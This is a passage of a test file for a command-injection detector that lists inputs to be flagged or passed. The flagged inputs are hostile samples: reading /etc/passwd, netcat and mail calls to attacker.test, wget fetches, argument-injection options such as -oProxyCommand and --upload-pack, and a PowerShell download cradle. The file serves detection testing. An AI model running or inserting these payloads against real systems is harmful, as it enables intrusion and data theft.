    ['ID | nc attacker.test 80', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Name | ID | Type | Status', 'ID | Date | Amount', 'ID | Type | Status', 'user_id|name|role'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 8: echo or cat alone before ; opening the value, or ending it after a pipe, runs nothing an attacker wants', () => {
  it.each([['echo;id', 'cmdi.chained-command'], ['cat;whoami', 'cmdi.chained-command'], ['echo|sh', 'cmdi.chained-command'], [';echo;', 'cmdi.chained-command'],
    ['echo $PATH;', 'cmdi.command-with-args'], ['; echo x', 'cmdi.chained-command'], ['x | echo hi', 'cmdi.chained-command'],
    ['| cat /etc/passwd', 'cmdi.chained-command'], ['echo | gcc7.4', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Echo; Delta; Foxtrot', 'cat; dog; bird', 'dog|cat', 'Alpha | Bravo | Echo', 'Kinshasa | CD'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi round 9: R's %>% after a command is checked to its end (shell: % an argument, >% a redirection)", () => {
  it.each([[';wget %>%x attacker.test/x.sh', 'cmdi.chained-command'], [';wget %>% -O /tmp/x attacker.test/x', 'cmdi.chained-command'],
    [';touch %>% /tmp/pwned', 'cmdi.chained-command'], [';kill %>% -9 1', 'cmdi.chained-command'], [';ls %>% -la /', 'cmdi.chained-command'],
    [';wget %>% attacker.test/x', 'cmdi.chained-command'], [';ls %<>%x', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['df %>% filter(x > 1) %>% select(id, name)', 'x %>% head', 'sort %>% head(5)', 'cat %>% unique', 'df %>% tail',
    'date %>% as.Date()', 'mtcars %>% group_by(cyl)', 'ls %>% names', 'df %>%\n  filter(id == 2)', 'x %<>% sort', 'cat %>% dplyr::filter(n > 1)'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 9: mail or msmtp piped into and given a recipient mails the output out; mail alone reads a mailbox', () => {
  it.each([['id|mail a@attacker.test', 'cmdi.chained-command'], ['id|msmtp a@attacker.test', 'cmdi.chained-command'],
    ['set|mail a@attacker.test', 'cmdi.chained-command'], ['x | id | mail a@attacker.test', 'cmdi.chained-command'],
    ['ID | Name | mail a@attacker.test', 'cmdi.chained-command'], ['id|mail -s x a@attacker.test', 'cmdi.chained-command'],
    ['; mail -s x a@attacker.test < /etc/passwd', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['ID | Mail | Phone', 'Name | ID | Email | Mail', 'Echo; Delta; Mail', 'ID | Name | Mail', 'Home | About | mail us',
    'Send it by mail to ana@example.com', 'x | msmtp'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 9: IF x == y waits for the command cmd.exe would run; "or"/"and" there is Python or Ruby', () => {
  it.each(['&if 1==1 whoami', 'if %1==x goto end', 'IF "%a%"=="b" echo hi', 'if a == b', 'if a == b\nwhoami', '& if x==x calc', 'IF a==a (calc)'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.windows-batch');
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(["if x == 1 or y == 2: print('ok')", 'if a == b and c', 'if x == 1 or y'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 10: a quote opening the value, then a backtick substitution, runs it inside "…"', () => {
  it.each(["'`sleep 5`", '"`pwd`', "'`pwd`&", "\"`nslookup x.attacker.test`'", "'`s'l'eep 5`", "x'`ps aux`#", "'`echo vulnerable` #",
    "'`sleep 5`'", '"`ls -la`"', "'`true`'"])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-substitution');
    expectSameWhenSplit(d, [input], 'query');
  });
  // (a weak word alone in a quoted span is a code span quoted in prose, as it is unquoted: `date`)
  it.each(["'`date`'", '"`sleep`"', "x '`date`'", "'`type`' is required", '"`date` is the field"', '"`npm install`" first', '"`npm`"', "'`date`",
    "'`cat file.txt`' prints it", "He said '`ls -la`' shows hidden files", "'`date`' and more"])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 10: cmd.exe reads a comma between a command and its arguments as a space', () => {
  it.each(['&dir,c:\\', '|type,C:\\Windows\\win.ini', '&ipconfig,/all', '&ping,-n,5,127.0.0.1', '&&cmd,/c,whoami', '1||timeout,/t,5',
    '"&powershell,-c,Get-Process', '\r\ndir,c:\\', '&type,\\x\\y'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['x|sort,uniq', 'A|Echo,B', 'x&type,y', 'x|sort,', 'Size|Sort,/asc', 'Rating|Sort,-price', 'Gross|Net,Tax', 'id,name|time,date',
    'S&P 500|Dir,Notes', 'Copy&copy,2024', 'a|dir,d', 'Name | Date, Time'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 10: a positional parameter is one digit; a quote or $ after a backtick glued to a word starts the substitution', () => {
  it.each([[';i$9d', 'cmdi.chained-command'], ['x;c$1at /etc/passwd', 'cmdi.chained-command'], ['|wh$5oami', 'cmdi.chained-command'],
    ['x`$0 -c id`', 'cmdi.command-substitution'], ["x`$'\\x69\\x64'`", 'cmdi.command-substitution'], ['x`"w"h"o"a"m"i`', 'cmdi.command-substitution'],
    ["q`'i'd`", 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Price $9d', 'a$1b', 'cost $5 ls', 'US$5bn deal', 'hello`"world"`', 'word`"quoted"`', 'x`y`z'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 10: ${@} ${*} inside a word are empty, like $@ $*', () => {
  it.each([[';${@}id', 'cmdi.chained-command'], [';i${@}d', 'cmdi.chained-command'], ['x;wh${*}oami', 'cmdi.chained-command'],
    ['${@}id -a', 'cmdi.command-with-args'], ['`un${*}ame -a`', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['${@}', 'use ${*} and ${@}', 'the ${?} code', 'a${-}b', '$@id'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 10: cmd.exe skips , and ; before a command name after its separators', () => {
  it.each(['&,whoami', '|,net user', '&,;,whoami', '&&,,dir c:\\', '\n,ver', '1&, ipconfig /all', 'a;,id'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['q&,x', 'Q&,A', 'a&b,id', 'a,,id', '1,2;,3', 'x|a,,id', 'Name,,Email', 'flags|=id', 'mask&=id', 'x|=date', '&=whoami'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 10: a command word given unquoted to system( passthru( popen( (PHP before 8 reads a bare name as its string)', () => {
  it.each(['{${system(id)}}', '${@system(id)}', 'passthru(whoami)', 'popen(ls)', "';system(uname);#"])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['exec(id)', 'the system(s) in use', 'system(date)', 'operating system(linux)', 'file system(ext4)'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 10: file tools that only print their usage without an operand, alone, run nothing', () => {
  it.each([';touch /tmp/x', ';rm -rf /tmp/x', '|cp /etc/passwd /tmp/p', ';mkdir x', ';copy c:\\x d:\\y', '`rm`', '|chmod +x s'])('%s is flagged', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.some((t) => t.category === 'cmdi')).toBe(true);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Touch; price; coffee', 'Copy; Paste', 'Cut; Copy; Paste', 'Move; Copy', 'cp; mv; rm', 'Malé | MV', '&& rm'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi round 10: ssh's ProxyCommand= given a command (argument injection) is judged like system(", () => {
  it.each(['-oProxyCommand=id', 'x -oProxyCommand=whoami', "-oProxyCommand='id'", "-o ProxyCommand='sh -c id'"])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['ProxyCommand=date', 'set ProxyCommand=none', 'oproxycommand=foo', 'ProxyCommand ssh -W %h:%p bastion is in the docs'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi words measured after decoding', () => {
  // a percent-encoded word is as long as its decoded bytes, not its span in the input: cmd.%65%78%65 is cmd.exe
  it.each(['|cmd%2e%65xe /c dir', 'a;cmd.%65%78%65 /c ver', 'x|ping%2e%65xe -n 3 h'])('%s is found like its decoded form', (input) => {
    const decoded = decodeURIComponent(input);
    expect(d.scan(input, { context: 'query' }).blocked).toBe(true);
    expect(ruleIds(d.scan(input, { context: 'query' }))).toEqual(ruleIds(d.scan(decoded, { context: 'query' })));
  });
});

describe('cmdi: an option opening the value whose value a program runs (argument injection)', () => {
  // a value that starts with '-' is an argument, not a shell line: git --upload-pack=, tar --to-command=, rsync --rsh=
  // and the like run their value, so one given a command word (or a quote, $ or backtick) is judged like system(
  it.each(['--to-command=id', "--upload-pack='touch x'", '--receive-pack=whoami', '--exec=id', '--rsh=sh', '--use-compress-program=id',
    '--checkpoint-action=exec=id', '-c core.sshCommand=id', '-oLocalCommand=id', '%2d%2dunzip-command=id', '--script-shell=$x',
    // (session 25: git grep's --open-files-in-pager= and man's --pager= run their value; find's -execdir as -exec does)
    '--open-files-in-pager=id', "--pager='touch x'", '-execdir touch x {} +', '-execdir id {} ;'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
    expectSameWhenSplit(d, [input], 'query');
  });
  // the same options named after a command document it (session 16 reverted a rule that took these); a field named
  // command=, an option given no command word, an option not opening the value
  it.each(['git rebase --exec=make main', 'tar: use --use-compress-program=gzip or -z', 'nix-shell --command=zsh', 'git rebase --exec=make',
    'command=id', 'x-command=id', 'script=ls', '--exec=jest', '--script=vuln', '--prefix=/usr/local', 'a --exec=id', '-v --upload-pack=x',
    'shell=bash', 'use -execdir instead of -exec', 'pager=less', '--pager=less'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: an option opening the value that writes or loads the file it names, given an absolute path', () => {
  // curl -o, wget -O / --output-document, find -fprint, git --template, --config: a value starting with the option is
  // an argument the program is given, and an absolute path after it makes it write or read a file the sender chose
  it.each(['--output=/var/www/html/x.php', '-o /tmp/x', '-o/tmp/x', '-O /srv/a', '--output-document=/tmp/a', '-fprint /tmp/y', '-fprintf /tmp/y %p',
    '--template=~/t', '--config=/tmp/evil', '--outfile \\\\host\\share\\x', '%2D%2Doutput=%2Ftmp%2Fx'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.argument-injection');
    expectSameWhenSplit(d, [input], 'query');
  });
  // a format or relative name after the option, the option after a command or in prose, a flag that takes no file
  it.each(['--output=json', '-o wide', '-o json', '--output=./out', 'use --output=/tmp/x to save', 'curl -o /tmp/x', '-x /tmp',
    'output=/tmp/x', '--outputs=/tmp/x', '-oo /tmp/x', '-- /tmp/x', 'o /tmp/x', '-o-/tmp',
    // usage text: a short option glued to its long form
    '-O/--maxRequests NUM', '-o/--output <file>'])('%s stays clean of it', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('cmdi.argument-injection');
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 20: a command word in a markup attribute before the tag closes is no command line', () => {
  // (red team, session 17: rich text with class="date", alt="cat" was blocked as "date > file")
  const cmdiOf = (input: string, context: 'query' | 'form' | 'json') => d.scan(input, { context }).threats.filter((t) => t.category === 'cmdi');
  it.each(['<p class="date">5 May</p>', '<span class="time">10:00</span>', '<td class="head">Name</td>', '<li class="top">x</li>',
    '<img src="a.jpg" alt="cat">', '<a href="/x" title="echo">x</a>', '<span lang="tr">Merhaba</span>', '<input type="date">',
    '<input type=date>', '<a href="/x" target="top">x</a>', "<img src='cat.jpg' alt='cat'>", '<td class="head" >x</td>',
    '<p>Our next meetup:</p><p class="date">5 May</p><p><img src="/u/kitty.jpg" alt="cat"></p>', '<b> <img alt="cat">'])('%s has no cmdi finding', (input) => {
    for (const c of ['query', 'form', 'json'] as const) expect(cmdiOf(input, c)).toEqual([]);
    expectSameWhenSplit(d, [input], 'form');
  });
  // no '<' open (the value itself is a command line), a separator first, a redirection to a path, a strong probe in an attribute
  it.each([['"date">x', 'cmdi.command-with-args'], ['date>x', 'cmdi.command-with-args'], ['x="id">/tmp/x', 'cmdi.command-with-args'],
    ['x=";id>x', 'cmdi.chained-command'], ['a" ; cat /etc/passwd > x', 'cmdi.chained-command'], ['<a b="id">/tmp/x', 'cmdi.redirection'],
    ['<?xml version="1.0"?><root><a probe="id"></a></root>', 'cmdi.command-with-args'], ['<p class="x;date">y</p>', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'form' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'form');
  });
});

describe("cmdi round 20: a command word as one field of a ';'-separated list (European CSV, tag lists)", () => {
  const cmdiOf = (input: string) => d.scan(input, { context: 'form' }).threats.filter((t) => t.category === 'cmdi');
  // a weak word with no argument between list semicolons, ending a list of three fields, a no-op ending one of two, a strong word
  // heading a CSV line of three fields; a quoted field that goes on past the command word inside its quote
  it.each(['Name;Date;Time', 'id;name;date', 'ID;Name;Email', 'Anna;yes;42', '1;true;5', 'Berlin;Germany;yes', 'true;false',
    'Mary;"Less";"Trader Joe\'s";10', 'Jean-Luc;"Find";"Marks & Spencer";28', 'Ann;"O\'Neill";"Time & Date AS";101',
    'Aisha;"Tail";"Zip & Go";60;"Dame Street, NYC";$60.00;null', 'Mary;"Hostetler";"AT&T";65', 'Liam;"D\'Souza";"Procter & Gamble";109;$109.00;true',
    'Kevin;"Head";"Last & Co";107;"Order Way, NYC";$107.00;N/A', 'Name;Date;Time;Sort'])('%s stays clean', (input) => {
    expect(cmdiOf(input)).toEqual([]);
    expectSameWhenSplit(d, [input], 'form');
  });
  // bare commands after a separator, with arguments, at the end of two fields, no word before the ';', a strong word in the
  // middle, a strong field next, shutdown/halt (they act with no argument), an expansion, a CSV head of two fields
  it.each([[';id', 'cmdi.chained-command'], [';ls -la', 'cmdi.chained-command'], ['x;cat /etc/passwd', 'cmdi.chained-command'],
    ['1;uname -a', 'cmdi.chained-command'], [';sleep 5', 'cmdi.chained-command'], ['a;whoami;b', 'cmdi.chained-command'], [';id;', 'cmdi.chained-command'],
    ['a;id;', 'cmdi.chained-command'], ['a);id;', 'cmdi.chained-command'], ['x;id', 'cmdi.chained-command'], ['x;date', 'cmdi.chained-command'],
    [';date', 'cmdi.chained-command'], ['a;date;', 'cmdi.chained-command'], ['a);date;x', 'cmdi.chained-command'], ['a;date;id', 'cmdi.chained-command'],
    ['a;b;date -x', 'cmdi.chained-command'], ['a;date -u;b', 'cmdi.chained-command'], ["1';declare @# int;shutdown;set @# = '1", 'cmdi.chained-command'],
    ['a;b;HALT', 'cmdi.chained-command'], [';a=i;b=d;$a$b', 'cmdi.chained-command'], ['id;', 'cmdi.command-with-args'], ['id;name', 'cmdi.command-with-args'],
    ['id;ls', 'cmdi.command-with-args'], ['id;name -x', 'cmdi.command-with-args'], ['x;"id"', 'cmdi.chained-command'], [';"id" -a', 'cmdi.chained-command'],
    ['a;"date";', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'form' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'form');
  });
});

describe('cmdi round 20: a mail verb with a colon glued to it labels a line of a message', () => {
  it.each(['Hi,\r\nUser: jsmith\r\nIssue: can\'t login', 'Hello,\nData: attached below', 'Notes:\nList: eggs, milk', 'Hi,\nTop: blue, size M',
    'Dear team,\nUser name: bob\nPass: forgot', 'Hello\nstat: 5/10'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'form' }))).not.toContain('cmdi.mail-command');
    expectSameWhenSplit(d, [input], 'form');
  });
  it.each(['x\r\nUSER admin\r\nPASS x', 'x\nDATA\n', 'x\r\nRCPT TO:<a@b>', 'x\nMAIL FROM:<x@y>', 'x\nQUIT', 'x\r\nLIST 1', 'x\r\nUSER admin'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'form' }))).toContain('cmdi.mail-command');
    expectSameWhenSplit(d, [input], 'form');
  });
});

describe('cmdi session 18: a PowerShell cmdlet after "| " or "&" given an argument', () => {
  // glued to '|' or after ';' a cmdlet fired before; after '| ' (a menu's separator: "Home | Get-Started") or '&' (which
  // also splits query strings) the Verb-Noun cmdlet now counts when something follows it as an argument
  it.each(['a | Get-ChildItem C:\\Users', 'a & Start-Process calc', 'a && Get-Content $env:TEMP\\x.txt', 'x &Stop-Service WinDefend',
    '& Set-Content x.txt hi', 'x | Remove-Item -Recurse -Force .', 'x & Invoke-WebRequest -Uri http://h.test/a', 'q && New-Object Net.Sockets.TCPClient',
    'x | Out-File \\\\h\\s\\o.txt', '1 | Get-ChildItem C:\\Users', 'test | Get-ChildItem C:\\Users'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
    expectSameWhenSplit(d, [input], 'query');
  });
  // menus and lists: another cell, a comma or sentence punctuation after it; Help; verbs with English nouns; a verb given
  // an option after '&' (only a cmdlet counts there)
  // ... and ending the value: a PowerShell pipeline pasted in a ticket ends that way (so x | Get-Process at the end stays a miss)
  it.each(['Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item', 'x | Get-Process', 'x | Get-LocalUser ', 'Home | Get-Started', 'Home | Get-Help', 'Home | Get-Content | Blog', 'Tips | Get-Process, Get-Service and more',
    'Docs | Get-Item? see below', 'Tom & New-ish', 'a & get -x', 'Tom & new -ish', 'Q & A | Set-Up guide', 'Fish & Get-Together', 'Food & Drink | Add-Ons'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
  // a value opening with a command or a cmdlet is a pipeline pasted whole (a ticket, a search): the pipe is its own, not an
  // injection's (which appends to a value: the rows above); rt-ex 06
  it.each(['Get-Process | Select-Object Name', 'Get-Service | Select-Object Name, Status', 'Get-Content log.txt | Select-String error | Out-File errors.txt',
    'ls | Set-Content files.txt', 'PowerShell: Write-Output "hi" | Out-File a.txt'])('%s stays clean (a pasted pipeline)', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi session 18: an option opening the value whose value a program runs, given a path', () => {
  // tar --use-compress-program= --to-command=, git --upload-pack=, rsync --rsh=, --exec=: the program runs the path it is given
  // (a script the sender placed) as it runs a command word
  it.each(['--use-compress-program=/tmp/x.sh', '--rsh=./r', '--upload-pack=~/p', '--to-command=/usr/bin/env', '--exec=/tmp/x',
    '--checkpoint-action=exec=/tmp/x.sh', '--script-shell=\\\\h\\s\\x.cmd', '-oProxyCommand=/tmp/p', '%2D%2Drsh=%2Ftmp%2Fr'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.argument-injection');
    expectSameWhenSplit(d, [input], 'query');
  });
  // not opening the value (documentation), configure's --prefix, a relative name or a value that is no path
  it.each(['tar: use --use-compress-program=/usr/bin/pigz', 'a --rsh=/usr/bin/ssh', '--prefix=/usr/local', '--prefix=~/opt', '--rsh=ssh-fast',
    '--use-compress-program=pigz', 'command=/bin/x', 'x-command=/tmp/x', '-v --upload-pack=/x'])('%s stays clean of it', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('cmdi.argument-injection');
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi session 18 round 2: a pasted pipeline ends with its statement; its cmdlet reading a file or the network counts (rt-ex2 04)', () => {
  // K_LINE (a value opening with a command or a cmdlet: a pipeline pasted whole) ends at ; newline & && ||: a second
  // statement's '| Cmdlet arg' is an injection's as after any other value. Inside the pasted pipeline a cmdlet that reads a
  // file or the network (Get-Content, Get-ChildItem, Invoke-WebRequest, Invoke-RestMethod, Start-BitsTransfer) given an
  // argument still counts: the pipe feeds it nothing it needs, so it is no less an attack
  it.each(['Get-Date; x | Get-ChildItem C:\\Users', 'ping | Get-Content C:\\secret.txt', 'Get-Date\nx | Get-Content C:\\secret.txt',
    'ls && x | Get-ChildItem C:\\Users', 'ls || x | Get-ChildItem C:\\Users', 'Get-Process & x | Get-Content C:\\x.txt',
    'ls | Invoke-WebRequest http://h.test/x', 'Get-Date | Invoke-RestMethod http://h.test/x', 'ls | Get-Content -Path C:\\secret.txt'])('%s is flagged', (input) => {
    for (const context of ['query', 'body', 'json'] as const) expect(ruleIds(d.scan(input, { context }))).toContain('cmdi.chained-command');
    expectSameWhenSplit(d, [input], 'query');
  });
  // the pasted pipelines of tickets stay clean: cmdlets that select, format, write or remove what the pipe feeds them,
  // and a reading cmdlet fed by the pipe (no argument, or the next stage after it)
  // (a cmdlet given an option after the pipe, Get-ChildItem *.tmp | Remove-Item -Force, was flagged before K_LINE and still is)
  it.each(['Get-Process | Select-Object Name', 'ls | Set-Content files.txt', 'Get-ChildItem -Recurse | Get-Content | Select-String error',
    'Get-ChildItem *.log | Get-Content', 'Get-Process | Out-File procs.txt', 'Get-Service | Select-Object Name, Status',
    'Get-Content log.txt | Select-String error | Out-File errors.txt'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi session 18: PowerShell static method calls that start processes, load code or move data', () => {
  // [Type]::Method( with the method glued to "]::" and to its '(': Process Start, Assembly Load, ScriptBlock Create,
  // File ReadAllText / WriteAllBytes, Convert FromBase64String (an encoded command's first step), WebClient DownloadString
  it.each(['; [System.Diagnostics.Process]::Start("cmd.exe")', '[Reflection.Assembly]::Load($b)', 'x|[IO.File]::WriteAllBytes("C:\\x.exe",$b)',
    "x;[ScriptBlock]::Create('id').Invoke()", ';[Convert]::FromBase64String("aWQ=")', '& [System.IO.File]::ReadAllText("C:\\inetpub\\web.config")',
    '$([Environment]::GetEnvironmentVariable("PATH"))', '[x]::%53tart(1)', 'x|[Activator]::CreateInstance($t)',
    // the calls that only move data count as a statement: after a separator, inside $( or in the code powershell or iex runs
    'iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aWQ=")))', "powershell \"[IO.File]::ReadAllText('C:\\x')\"",
    "iex ([Convert]::FromBase64String('aWQ='))"])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
    expectSameWhenSplit(d, [input], 'query');
  });
  // other static members (math, GUIDs, dates, TLS settings pasted in tickets), C++/Rust paths, a method not glued to the "::",
  // Markdown link references and IPv6 literals
  it.each(['[math]::Round(3.14)', '[Guid]::NewGuid()', '[DateTime]::Parse("2024-01-01")', '[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12',
    'std::thread::start(f)', 'Vec::<u8>::new()', 'arr[i]:: start(x)', '[1]: https://x.test/a', 'http://[::1]:8080/start(x)', '[x]: Load(x)', '[x]:::Load(x)',
    // a call that only moves data named in docs or a ticket, not as a statement of its own (rt-ex 06)
    'To decode: [Convert]::FromBase64String($encoded)', '[System.IO.File]::ReadAllText($path) returns the whole file',
    'Call [Environment]::GetEnvironmentVariable("PATH") to read it', '[Activator]::CreateInstance($type)', '[Convert]::FromBase64String("aWQ=")',
    '$bytes = [Convert]::FromBase64String($encoded)'])('%s stays clean of it', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('cmdi.exec-call');
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi session 18 round 2: data-moving static calls anywhere after a separator (rt-ex2 03)', () => {
  // an assignment, a parenthesised argument or a script block after a separator is still code PowerShell runs: past a
  // command separator (; | & newline), a $( or the code powershell / iex is handed, the call counts wherever it stands
  it.each(['x;$a=[IO.File]::ReadAllText("C:\\app\\keys.txt")', 'x; $d=[Convert]::FromBase64String("aWV4")',
    'x; Write-Output ([IO.File]::ReadAllText("C:\\secret"))', 'x|%{[IO.File]::ReadAllText("C:\\x")}', "x && $b=[Convert]::FromBase64String('aWQ=')",
    'a\n$k=[IO.File]::ReadAllText("C:\\x")', '$(Write-Output ([IO.File]::ReadAllText("C:\\x")))',
    'iex ($s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aWQ=")))',
    'x; [IO.File]::ReadAllText("C:\\x")'])('%s is flagged', (input) => {
    for (const context of ['query', 'body', 'json'] as const) expect(ruleIds(d.scan(input, { context }))).toContain('cmdi.exec-call');
    expectSameWhenSplit(d, [input], 'query');
  });
  // the doc forms with no separator before the call stay clean (a separator after it changes nothing)
  it.each(['To decode: [Convert]::FromBase64String($encoded)', '$bytes = [Convert]::FromBase64String($encoded)',
    'Decode it with [Convert]::FromBase64String($encoded); then read the bytes', 'x; [math]::Round($a.Length / 2)',
    'x; $n=[Guid]::NewGuid()'])('%s stays clean of it', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('cmdi.exec-call');
    expectSameWhenSplit(d, [input], 'query');
  });
  // known false positive (fail closed): a newline is a separator, so a doc's second line that assigns the call is read as
  // a script's statement
  it('a doc line after a newline, $bytes = [Convert]::FromBase64String($encoded), is flagged (known false positive)', () => {
    expect(ruleIds(d.scan('To decode a token:\n$bytes = [Convert]::FromBase64String($encoded)', { context: 'query' }))).toContain('cmdi.exec-call');
  });
});

describe('cmdi session 18: more cmdlets (Test-NetConnection, Resolve-DnsName, Expand-Archive, Compress-Archive)', () => {
  it.each(['; Test-NetConnection h.test -Port 80', ';Resolve-DnsName h.test', '; Expand-Archive x.zip', '|Compress-Archive C:\\x x.zip',
    'x | Resolve-DnsName h.test'])('%s is flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Home | Compress-Archive | Blog', 'Docs | Test-Archive, Test-Drive', 'x; resolve-conflicts later'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
});

describe('cmdi session 18: powershell opening the value runs the rest of its command line', () => {
  // powershell (and pwsh) run what follows as a command: a command word given an argument or a '(' (the download cradle
  // IEX (New-Object Net.WebClient).DownloadString(...)), a quote or '(' with a command or cmdlet inside, a cmdlet given
  // an option or code
  it.each(["powershell IEX (New-Object Net.WebClient).DownloadString('http://h.test/a.ps1')", 'pwsh iex (x)', 'powershell iex x',
    'powershell iex(x)', 'powershell Invoke-Expression (x)', 'powershell "IEX (x)"', "powershell 'whoami'", 'powershell (New-Object Net.WebClient).DownloadFile(1,2)',
